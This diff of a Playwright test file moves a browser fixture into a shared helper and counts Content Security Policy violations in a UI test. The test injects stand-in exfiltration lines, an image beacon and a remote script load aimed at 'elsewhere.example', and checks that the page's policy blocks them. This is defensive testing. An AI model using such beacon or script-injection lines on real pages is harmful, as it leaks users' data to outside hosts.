@@ -8,6 +8,7 @@ from typing import Any
 import onnx
 import pytest
 
+from tests.ui.conftest import visiting
 from tests.ui.states import STATES, about, batch, image, video
 from ui.settings import Recognizers
 
@@ -26,30 +27,27 @@ ATTACKS = (
 USED = ("image-result", "webcam-running", "video-result", "batch-result", "about", "settings")
 
 # What a browser says of a page that does what its policy forbids.
-TELL = """addEventListener("securitypolicyviolation",
-    ({violatedDirective, blockedURI}) => console.error("policy", violatedDirective, blockedURI))"""
+TELL = """window.forbidden = 0;
+addEventListener("securitypolicyviolation", ({violatedDirective, blockedURI}) => {
+    console.error("policy", violatedDirective, blockedURI); forbidden += 1; })"""
 
 
 @pytest.fixture
 def window(browser: Any, url: str) -> Iterator[Any]:
     """A browser's window, whose `hostile` tells who called it, and the errors of its console."""
-    context = browser.new_context(viewport={"width": 1440, "height": 900})
-    context.set_default_timeout(90_000)
-    tab = context.new_page()
-    tab.called, tab.errors = [], []
+    called: list[Any] = []
+    errors: list[str] = []
 
-    # Playwright can't name a method of a list.
-    def hostile(who: Any) -> None:
-        tab.called.append(who)
+    def prepare(tab: Any) -> None:
+        tab.called, tab.errors = called, errors
+        # Playwright can't name a method of a list.
+        tab.expose_function("hostile", lambda who: called.append(who))  # noqa: PLW0108
+        tab.add_init_script(TELL)
+        tab.on("console", lambda said: errors.append(said.text) if said.type == "error" else None)
+        tab.on("pageerror", lambda error: errors.append(str(error)))
 
-    tab.expose_function("hostile", hostile)
-    tab.add_init_script(TELL)
-    tab.on("console", lambda said: tab.errors.append(said.text) if said.type == "error" else None)
-    tab.on("pageerror", lambda error: tab.errors.append(str(error)))
-    tab.goto(url)
-    tab.locator(".example").first.wait_for()
-    yield tab
-    context.close()
+    with visiting(browser, url, prepare) as tab:
+        yield tab
 
 
 def test_the_page_keeps_its_own_policy(window: Any) -> None:
@@ -64,7 +62,7 @@ def test_what_would_leave_the_page_is_held_back(window: Any) -> None:
     window.evaluate("new Image().src = 'https://elsewhere.example/?face'")
     window.evaluate("""() => { const script = document.createElement("script");
         script.src = "https://elsewhere.example/a.js"; document.head.append(script); }""")
-    window.wait_for_timeout(500)
+    window.wait_for_function("forbidden >= 3")
     policies = {text.split()[1] for text in window.errors if text.startswith("policy ")}
     assert policies == {"connect-src", "img-src", "script-src-elem"}
 
